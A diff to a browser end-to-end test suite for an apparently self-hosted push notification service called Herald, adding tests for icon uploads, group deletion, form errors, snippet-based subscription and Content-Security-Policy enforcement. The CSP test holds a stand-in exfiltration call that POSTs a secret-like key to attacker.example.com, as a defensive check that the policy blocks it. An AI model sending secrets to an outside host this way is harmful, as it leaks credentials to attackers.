@@ -8,9 +8,11 @@
 // run does not rewrite them).
 import { mkdirSync } from 'node:fs'
 import path from 'node:path'
+import sharp from 'sharp'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { Browser, BrowserContext, Page, Request } from 'playwright-core'
-import { browserAvailable, launchBrowser, startHerald, type RunningHerald } from '../support/browser.ts'
+import { browserAvailable, launchBrowser, startHerald, startSite, type RunningHerald, type Site } from '../support/browser.ts'
+import { installFakePushManager } from './sdk-helpers.ts'
 import { startPushService, type PushService } from '../support/push-service.ts'
 import { subscribeBrowser, type Browser as PushBrowser } from '../support/delivery.ts'
 import type { TestProject } from '../support/app.ts'
@@ -25,9 +27,16 @@ const PUSH_DELAY_MS = 700
 async function screenshot(page: Page, name: string): Promise<void> {
   if (!SCREENSHOTS) return
   mkdirSync(SCREENSHOT_DIR, { recursive: true })
-  // Let images and fonts settle before the shot.
+  // Let images and fonts settle, and keep the pointer off the links, before the shot.
   await page.waitForLoadState('networkidle')
+  await page.mouse.move(0, 0)
   await page.screenshot({ path: path.join(SCREENSHOT_DIR, `${name}.png`), fullPage: true })
+}
+
+/** A square PNG, as a file picked from disk. */
+async function pngFile(name: string, background: string): Promise<{ name: string; mimeType: string; buffer: Buffer }> {
+  const svgIcon = `<svg xmlns="http://www.w3.org/2000/svg" width="96" height="96"><rect width="96" height="96" rx="20" fill="${background}"/><text x="48" y="64" font-size="48" text-anchor="middle" fill="#fff" font-family="sans-serif" font-weight="bold">A</text></svg>`
+  return { name, mimeType: 'image/png', buffer: await sharp(Buffer.from(svgIcon)).png().toBuffer() }
 }
 
 /** 'YYYY-MM-DDTHH:mm' in the browser's (and this process's) time zone, for <input type="datetime-local">. */
@@ -55,6 +64,9 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
   let groupId: string
   let members: PushBrowser[] = []
   let outsider: PushBrowser
+  /** The two snippets as the settings page shows them. */
+  let pasted = { page: '', worker: '' }
+  let site: Site | undefined
 
   const api = async (method: 'GET' | 'POST', url: string, payload?: Record<string, unknown>) =>
     (await herald.t.app.inject({ method, url, headers: project.auth, payload })).json()
@@ -82,6 +94,7 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
 
   afterAll(async () => {
     await browser?.close()
+    await site?.close()
     await herald?.close()
     await push?.close()
   })
@@ -143,6 +156,18 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
     expect((await alert.textContent())?.length).toBeGreaterThan(10)
     expect((await api('GET', '/v1/groups')).groups).toHaveLength(1)
 
+    // A second group, deleted again: the first press only asks.
+    await page.getByLabel('Name', { exact: true }).fill('Temporary')
+    await page.getByRole('button', { name: 'Create group' }).click()
+    await page.getByText('Group “Temporary” created.').waitFor()
+    const temporary = (await api('GET', '/v1/groups')).groups.find((g: { name: string }) => g.name === 'Temporary')
+    const row = page.locator(`tr[data-group-id="${temporary.id}"]`)
+    await row.getByRole('button', { name: 'Delete' }).click()
+    expect((await api('GET', '/v1/groups')).groups).toHaveLength(2)
+    await row.getByRole('button', { name: 'Yes, delete' }).click()
+    await page.getByText('Group “Temporary” deleted.').waitFor()
+    expect((await api('GET', '/v1/groups')).groups.map((g: { id: string }) => g.id)).toEqual([groupId])
+
     // Five browsers of the local push service join it, as the SDK's subscribe({ groupIds }) does.
     members = []
     for (let i = 0; i < 5; i++) members.push(await subscribeBrowser(herald.t, project, push, { group_ids: [groupId], external_id: `customer-${i}` }))
@@ -155,10 +180,19 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
   it('composes a broadcast to the group with a live preview, sends it, and watches delivered climb to the total', async () => {
     await nav(page, 'Compose').click()
     await page.getByRole('heading', { name: 'Compose', level: 1 }).waitFor()
+    // Sent empty, the API's refusal is shown in words, field by field, and nothing is created.
+    await page.getByRole('button', { name: 'Send' }).click()
+    const refusal = page.locator('#compose-message [role=alert]')
+    await refusal.waitFor()
+    expect(await refusal.textContent()).toContain('notification.title')
+    expect(await refusal.textContent()).toContain('notification.body')
+    expect((await api('GET', '/v1/broadcasts')).broadcasts).toEqual([])
+
     await page.getByLabel('Title').fill('Spring sale')
     await page.getByLabel('Body').fill('Everything 20% off until Sunday.')
     await page.getByLabel('Link').fill('/sale')
-    await page.getByLabel('Icon', { exact: true }).fill('https://cdn.example.com/acme.png')
+    // An icon picked from disk: sent as a data URL, hosted by Herald under /icons.
+    await page.getByLabel('…or upload an icon file').setInputFiles(await pngFile('acme.png', '#e4572e'))
     await page.getByLabel('Send to').selectOption('group')
     await page.getByLabel('Group', { exact: true }).selectOption(groupId)
     await page.getByLabel('Urgency').selectOption('high')
@@ -167,7 +201,7 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
     // The preview follows the form.
     expect(await page.locator('#preview .n-title').textContent()).toBe('Spring sale')
     expect(await page.locator('#preview .n-body').textContent()).toBe('Everything 20% off until Sunday.')
-    expect(await page.locator('#preview .n-icon').getAttribute('src')).toBe('https://cdn.example.com/acme.png')
+    await expect.poll(() => page.locator('#preview .n-icon').getAttribute('src')).toMatch(/^data:image\/png;base64,/)
     await screenshot(page, 'compose')
 
     push.reset()
@@ -196,17 +230,19 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
 
     // Herald's own record, and what the push service really received (decrypted).
     const broadcast = await api('GET', `/v1/broadcasts/${broadcastId}`)
+    const icon = broadcast.notification.icon as string
+    expect(icon).toMatch(new RegExp(`^${herald.url}/icons/[0-9a-f]{64}\\.png$`))
     expect(broadcast).toMatchObject({
       status: 'sent', source: 'dashboard', audience: 5, delivered: 5, failed: 0, ttl: 3600, urgency: 'high', topic: 'spring-sale',
       target: { type: 'group', group_id: groupId },
-      notification: { title: 'Spring sale', body: 'Everything 20% off until Sunday.', url: '/sale', icon: 'https://cdn.example.com/acme.png', image: null },
+      notification: { title: 'Spring sale', body: 'Everything 20% off until Sunday.', url: '/sale', icon, image: null },
     })
     expect(push.received).toHaveLength(5)
     for (const member of members) {
       const [received] = push.receivedFor(member.endpoint)
       expect(received.payload).toEqual({
         v: 1, project_id: project.id, broadcast_id: broadcastId,
-        title: 'Spring sale', body: 'Everything 20% off until Sunday.', icon: 'https://cdn.example.com/acme.png', url: '/sale',
+        title: 'Spring sale', body: 'Everything 20% off until Sunday.', icon, url: '/sale',
       })
       expect(received.headers).toMatchObject({ urgency: 'high', topic: 'spring-sale' })
     }
@@ -254,7 +290,7 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
     const rows = page.locator('tbody tr[data-broadcast-id]')
     expect(await rows.count()).toBe(2)
     const sent = await rows.nth(1).locator('td').allTextContents()
-    expect(sent).toEqual(['Spring sale', 'sent dashboard', 'group', '5', '5', '0', '2', '1', '40.0%', expect.any(String)])
+    expect(sent).toEqual(['Spring sale', 'sent dashboard', 'group VIP customers', '5', '5', '0', '2', '1', '40.0%', expect.any(String)])
     expect(await rows.nth(0).locator('td').nth(1).textContent()).toContain('canceled')
     expect(await page.locator('svg.chart rect.bar-delivered').count()).toBe(14)
     expect(await page.locator('svg.chart desc').textContent()).toBe('5 delivered and 2 clicked in total.')
@@ -317,18 +353,25 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
     expect(stored[0].secret).toBe(secret)
     expect([...stored[0].events].sort()).toEqual(['clicked', 'delivered', 'failed'])
 
-    // The default icon, set from a URL through PATCH /v1/me.
+    // The default icon through PATCH /v1/me: an HTTPS URL first, then a file Herald hosts.
     await page.getByLabel('Icon URL').fill('https://cdn.example.com/default-icon.png')
     await page.getByRole('button', { name: 'Save icon' }).click()
     await page.getByText('Default icon saved.').waitFor()
     expect((await api('GET', '/v1/me')).project.default_icon).toBe('https://cdn.example.com/default-icon.png')
     expect(await page.locator('#current-icon img').getAttribute('src')).toBe('https://cdn.example.com/default-icon.png')
+    await page.getByLabel('…or upload a file').setInputFiles(await pngFile('default.png', '#1d4ed8'))
+    await page.getByRole('button', { name: 'Save icon' }).click()
+    const hosted = new RegExp(`^${herald.url}/icons/[0-9a-f]{64}\\.png$`)
+    await expect.poll(async () => (await api('GET', '/v1/me')).project.default_icon).toMatch(hosted)
+    await expect.poll(() => page.locator('#current-icon img').getAttribute('src')).toMatch(hosted)
+    const defaultIcon = (await api('GET', '/v1/me')).project.default_icon
+    await expect.poll(() => page.locator('#current-icon img').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(96)
     // A bad one is refused in words, keeping the old one.
     await page.getByLabel('Icon URL').fill('http://insecure.example.com/icon.png')
     await page.getByRole('button', { name: 'Save icon' }).click()
     await page.locator('#icon-message [role=alert]').waitFor()
     expect(await page.locator('#icon-message').textContent()).toContain('default_icon')
-    expect((await api('GET', '/v1/me')).project.default_icon).toBe('https://cdn.example.com/default-icon.png')
+    expect((await api('GET', '/v1/me')).project.default_icon).toBe(defaultIcon)
 
     // The snippet names this Herald and this project.
     const snippet = await page.locator('#snippet-page').textContent()
@@ -336,6 +379,7 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
     expect(snippet).toContain(`Herald.init({ project: '${project.id}' })`)
     expect(snippet).toContain('Herald.subscribe()')
     expect(await page.locator('#snippet-worker').textContent()).toBe(`importScripts('${herald.url}/sdk/sw.js')`)
+    pasted = { page: (await page.locator('#snippet-page').textContent())!, worker: (await page.locator('#snippet-worker').textContent())! }
     await screenshot(page, 'settings')
 
     // The webhook list after a reload no longer shows the secret; then delete it.
@@ -372,6 +416,28 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
     expect(await small.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(PHONE.width)
     await screenshot(small, 'phone-compose')
     await phone.close()
+  })
+
+  it('the snippets from settings, pasted into a site, let a visitor subscribe, who then counts in the dashboard', async () => {
+    site = await startSite({ '/index.html': `<!doctype html><title>Acme</title><h1>Acme</h1>\n${pasted.page}`, '/herald-sw.js': `${pasted.worker}\n` })
+    const visitorContext = await browser.newContext()
+    await visitorContext.grantPermissions(['notifications'], { origin: site.url })
+    const visitor = await visitorContext.newPage()
+    const errors: string[] = []
+    visitor.on('pageerror', (error) => errors.push(error.message))
+    // Headless Chromium cannot reach a real push service: PushManager hands out a local push service subscription.
+    const subscription = push.createSubscription({ applicationServerKey: project.vapidPublic })
+    await visitor.addInitScript(installFakePushManager, [subscription])
+    await visitor.goto(site.url)
+    await visitor.getByRole('button', { name: 'Get notifications' }).click()
+    await expect.poll(async () => (await db('SELECT status FROM subscribers WHERE endpoint = $1', [subscription.endpoint])), { timeout: 15_000 }).toEqual([{ status: 'active' }])
+    expect(errors).toEqual([])
+    await visitorContext.close()
+
+    await nav(page, 'Overview').click()
+    await page.reload()
+    await page.getByRole('heading', { name: 'Overview', level: 1 }).waitFor()
+    expect(await page.locator('#count-active .stat-value').textContent()).toBe('6')
   })
 
   it('is usable from the keyboard: a skip link first, and every navigation puts focus on the page heading', async () => {
@@ -415,5 +481,27 @@ describe.skipIf(!browserAvailable)('the dashboard in Chromium', () => {
     // cdn.example.com does not resolve here: those image loads fail, and that is all that may.
     const unexpected = problems.filter((p) => !/Failed to load resource: net::ERR_NAME_NOT_RESOLVED|cdn\.example\.com/.test(p) && !/status of 4\d\d/.test(p))
     expect(unexpected).toEqual([])
+  })
+  // Last: the violations it provokes are logged to the console on purpose.
+  it('enforces its Content-Security-Policy: an injected inline script does not run, and no other origin can be reached', async () => {
+    await page.goto(`${herald.url}/dashboard`)
+    await page.getByRole('heading', { name: 'Sign in to Herald' }).waitFor()
+    const inline = await page.evaluate(() => new Promise<string>((resolve) => {
+      document.addEventListener('securitypolicyviolation', (event) => resolve(`blocked by ${event.effectiveDirective}`), { once: true })
+      const script = document.createElement('script')
+      script.textContent = 'window.injected = true'
+      document.body.append(script)
+      setTimeout(() => resolve((window as unknown as { injected?: boolean }).injected ? 'ran' : 'nothing happened'), 2000)
+    }))
+    expect(inline).toBe('blocked by script-src-elem')
+    // The violation event tells a CSP refusal apart from a name that does not resolve.
+    const outside = await page.evaluate(async () => {
+      const violation = new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
+      })
+      const outcome = await fetch('https://attacker.example.com/collect', { method: 'POST', body: 'hk_live_x' }).then(() => 'sent', () => 'failed')
+      return { outcome, directive: await Promise.race([violation, new Promise((resolve) => setTimeout(() => resolve('none'), 1000))]) }
+    })
+    expect(outside).toEqual({ outcome: 'failed', directive: 'connect-src' })
   })
 })
